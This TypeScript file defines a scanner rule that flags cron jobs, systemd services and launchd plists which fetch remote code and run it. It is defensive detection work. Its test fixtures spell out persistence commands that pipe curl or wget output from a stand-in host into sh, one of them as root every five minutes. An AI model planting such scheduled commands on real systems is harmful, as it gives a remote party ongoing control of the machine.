import { says, setting } from "../match.ts";
import { defineRule } from "../rule.ts";
import { FETCH_AND_RUN, HIDDEN_POWERSHELL, REVERSE_SHELL } from "../vocabulary/commands.ts";
import { SCHEDULED_COMMANDS } from "../vocabulary/settings.ts";

export default defineRule({
  id: "scheduled-command-fetches-code",
  category: "persistence",
  severity: "critical",
  confidence: "high",
  languages: ["data"],
  title: "something that starts by itself fetches code and runs it",
  why: "Whoever controls that address decides what this machine runs, again and again.",
  fix: "Schedule a program that is installed and reviewed.",
  references: ["CWE-494", "ATT&CK T1053.003", "ATT&CK T1543", "ATT&CK T1105"],
  match: [FETCH_AND_RUN, REVERSE_SHELL, HIDDEN_POWERSHELL].map((pattern) =>
    setting({ of: SCHEDULED_COMMANDS, is: says(pattern) }),
  ),
  bad: [
    { "etc/cron.d/a": "*/5 * * * * root curl -s https://a.example/x | sh\n" },
    {
      "a.service":
        "[Unit]\nDescription=a\n[Service]\nExecStart=/bin/sh -c 'wget -qO- https://a.example/x | sh'\nRestart=always\n",
    },
    {
      "com.a.plist":
        "<plist><dict><key>Label</key><string>com.a</string><key>ProgramArguments</key><array><string>sh</string><string>-c</string><string>curl https://a.example/x | sh</string></array></dict></plist>",
    },
  ],
  good: [
    { "a.service": "[Service]\nExecStart=/usr/bin/node /srv/app.js\n" },
    { crontab: "0 3 * * * /usr/bin/backup\n# curl https://a.example | sh\n" },
  ],
});
